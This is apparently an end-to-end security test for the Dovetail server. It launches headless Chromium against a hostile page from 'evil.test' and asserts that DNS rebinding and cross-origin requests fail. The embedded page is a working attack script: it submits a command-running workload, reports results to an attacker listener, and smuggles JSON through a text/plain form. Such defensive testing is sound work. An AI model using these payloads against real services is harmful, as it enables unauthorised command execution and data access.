"""A hostile page in a real browser cannot use the server: not by its own name made to point here, not by ours.

The page comes from `evil.test`, which the browser resolves to this machine. Its server then makes room on its port for
Dovetail, so that the page speaks to Dovetail as its own origin (DNS rebinding). It even has the admin token: what stops
it is the Host that it cannot change, and for the server's real address the Origin that it cannot hide.
"""

import contextlib
import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import pytest
from tests.e2e.server_process import ServerProcess
from tests.patience import wait_for
from tests.servers.browser import missing, program

from dovetail.client import Client

pytestmark = pytest.mark.needs_server
TOKEN = "the-page-knows-this-token"
OPTIONS = [
    *("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking"),
    *("--disable-component-update", "--disable-sync", "--no-first-run", "--remote-debugging-port=0"),
]

PAGE = """<!doctype html><title>harmless</title><iframe name="sink"></iframe><script>
const work = name => JSON.stringify({name, run: {command: ["touch", "/tmp/owned"]}});
const report = (way, said) => fetch(`http://evil.test:REPORT/?way=${way}&said=${said}`, {mode: "no-cors"});
const post = (base, name, type, more) => fetch(`${base}/api/v1/workloads`,
  {method: "POST", body: work(name), headers: {"Content-Type": type, ...more}});
async function attack() {
  const token = {Authorization: "Bearer TOKEN"};
  let answer;
  try { answer = await post("", "rebound", "application/json", token); }
  catch { return setTimeout(attack, 100); }
  if (!answer.headers.get("X-Request-Id")) return setTimeout(attack, 100);  // the hostile server itself, still
  await report("rebinding", answer.status);
  const read = await fetch("/api/v1/nodes", {headers: token});
  await report("reading", read.status);
  const there = "http://127.0.0.1:PORT";
  await post(there, "crossed", "application/json", token)
    .then(a => report("cross", a.status), () => report("cross", "blocked"));
  await fetch(`${there}/api/v1/workloads`, {method: "POST", mode: "no-cors", body: work("simple")})
    .then(a => report("simple", a.type), () => report("simple", "blocked"));
  const form = document.createElement("form");
  Object.assign(form, {action: `${there}/api/v1/workloads`, method: "POST", enctype: "text/plain", target: "sink"});
  form.innerHTML = `<input name='{"name": "formed", "x": "' value='"}'>`;
  document.body.append(form);
  document.querySelector("iframe").onload = () => report("form", "sent");
  form.submit();
}
attack();
</script>"""


class Attacker(ThreadingHTTPServer):
    """Gives everybody its page, and remembers what the page reports."""

    daemon_threads = True

    def __init__(self, port: int = 0) -> None:
        super().__init__(("127.0.0.1", port), _Answers)
        self.page = b""
        self.visits = 0
        self.reports: dict[str, str] = {}
        self._thread = threading.Thread(target=self.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self._thread.start()

    def end(self) -> None:
        self.shutdown()
        self._thread.join()
        self.server_close()


class _Answers(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        asked = parse_qs(urlsplit(self.path).query)
        if "way" in asked:
            self.server.reports[asked["way"][0]] = asked["said"][0]
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(self.server.page)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(self.server.page)
        self.server.visits += self.path == "/"

    def log_message(self, format: str, *arguments: object) -> None:  # noqa: A002 - named so by its base
        pass


@contextlib.contextmanager
def browser(folder: Path, url: str) -> Iterator[None]:
    chromium = program()
    if chromium is None:
        pytest.skip(missing())
    names = "--host-resolver-rules=MAP evil.test 127.0.0.1"
    command = [chromium, *OPTIONS, names, f"--user-data-dir={folder}", url]
    with (folder.parent / "browser.log").open("w") as log:
        running = subprocess.Popen(command, stdout=log, stderr=log, stdin=subprocess.DEVNULL)
        try:
            yield
        finally:
            running.terminate()
            running.wait(30)


def test_a_page_whose_name_points_here_submits_and_reads_nothing(tmp_path: Path) -> None:
    (tmp_path / "token").write_text(TOKEN)
    settings = {
        "access": {"token_file": str(tmp_path / "token")},
        "backends": {"sim": {"kind": "simulated", "groups": [{"count": 1}]}},
    }
    server = ServerProcess(tmp_path, settings)
    reports, hostile = Attacker(), Attacker(server.port)
    words = {"REPORT": str(reports.server_port), "PORT": str(server.port), "TOKEN": TOKEN}
    page = PAGE
    for word, value in words.items():
        page = page.replace(word, value)
    hostile.page = page.encode()
    try:
        with browser(tmp_path / "profile", f"http://evil.test:{server.port}/"):
            wait_for(lambda: hostile.visits, "the browser to open the page")
            hostile.end()
            with server:
                wait_for(lambda: "form" in reports.reports, "the page to try everything")
                with Client(server.url, TOKEN) as client:
                    assert client.workloads()["items"] == []
                    client.submit({"name": "by-its-owner"})  # the token is good: it was not what stopped the page
    finally:
        reports.end()
    assert reports.reports["rebinding"] == "421", json.dumps(reports.reports)
    assert reports.reports["reading"] == "421"
    assert reports.reports["cross"] == "blocked"
    assert reports.reports["simple"] == "opaque"
